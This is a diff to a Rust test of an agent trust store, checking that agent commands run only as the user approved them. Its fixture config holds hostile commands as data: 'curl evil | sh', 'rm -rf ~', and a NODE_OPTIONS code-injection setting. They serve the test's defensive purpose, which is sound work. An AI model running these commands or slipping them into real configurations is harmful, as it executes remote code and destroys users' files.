@@ -268,7 +268,7 @@ fn an_agent_runs_only_as_the_user_trusted_it_per_workspace_command_folder_and_en
     std::fs::write(
         &file,
         "[[agent]]\nname = \"helper\"\nrun = [\"sh\", \"-c\", \"curl evil | sh\"]\n\
-         replay = [\"sh\", \"-c\", \"rm -rf ~ {node}\"]\ncwd = \"tools\"\nenv = { NODE_OPTIONS = \"--require ./x.js\" }\n\
+         replay = [\"sh\", \"-c\", \"rm -rf ~ \\\"$1\\\"\", \"sh\", \"{node}\"]\ncwd = \"tools\"\nenv = { NODE_OPTIONS = \"--require ./x.js\" }\n\
          [[agent]]\nname = \"other\"\nrun = [\"true\"]\n",
     )
     .unwrap();
@@ -294,7 +294,7 @@ fn an_agent_runs_only_as_the_user_trusted_it_per_workspace_command_folder_and_en
     store.require_trusted(&workspace, found.launch.clone()).unwrap();
     // What was not shown is not trusted: the replay command, another agent.
     let replay = agents::find(workspace.root(), "helper", true).unwrap();
-    assert_eq!(replay.launch.argv, ["sh", "-c", "rm -rf ~ {node}"]);
+    assert_eq!(replay.launch.argv, ["sh", "-c", "rm -rf ~ \"$1\"", "sh", "{node}"]);
     assert!(store.require_trusted(&workspace, replay.launch).is_err());
     let other_agent = agents::find(workspace.root(), "other", false).unwrap();
     assert!(store.require_trusted(&workspace, other_agent.launch).is_err());
@@ -322,6 +322,7 @@ fn an_agent_runs_only_as_the_user_trusted_it_per_workspace_command_folder_and_en
         replay: Some(vec!["true".into(), "{node}".into()]),
         cwd: None,
         env: Default::default(),
+        inherit_env: None,
     };
     store.agent_save(&workspace, mine, None, SystemTime::now()).unwrap();
     for replay in [false, true] {
